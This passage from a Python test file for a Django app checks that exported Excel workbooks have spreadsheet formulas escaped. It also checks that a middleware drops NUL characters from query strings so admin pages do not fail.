    files = {
        "registration template": importing.template_workbook(user=staff),
        "registration failed rows": importing.failed_rows_workbook(job),
        "award list template": RecipientImport(staff, None).template_workbook(),
    }

    for name, content in files.items():
        problems, escaped = formula_problems(content)
        assert not problems, (name, problems)
        assert escaped or name == "award list template", name
    assert formula_problems(files["registration failed rows"])[1] >= 6 * 9


def test_a_workbook_held_in_memory_is_escaped_when_written():
    workbook = Workbook()
    for formula in FORMULAS:
        workbook.active.append([formula, 1, "bình thường"])

    problems, escaped = formula_problems(workbook_bytes(workbook))

    assert not problems
    assert escaped == len(FORMULAS)


@pytest.mark.django_db
def test_a_nul_in_a_query_string_is_dropped_before_any_list_reads_it(personas, tree):
    # PostgreSQL refuses a NUL in a text value: an admin filter such as ?status=%00 ended
    # in a server error when the list was counted.
    seen: dict[str, str] = {}

    def view(request):
        seen.update(request.GET.items())
        return HttpResponse("")

    DropNulFromQueryMiddleware(view)(RequestFactory().get("/?trang=1%002&status=%00&q=a%2500"))
    assert seen == {"trang": "12", "status": "", "q": "a%00"}

    client = Client()
    client.force_login(personas.district_staff)
    for url in ("/admin/learning/importjob/", "/admin/learning/registration/"):
        assert client.get(url, QUERY_STRING="status__exact=%00").status_code == 200
    assert client.get("/tin-tuc/", QUERY_STRING="trang=%00").status_code == 200
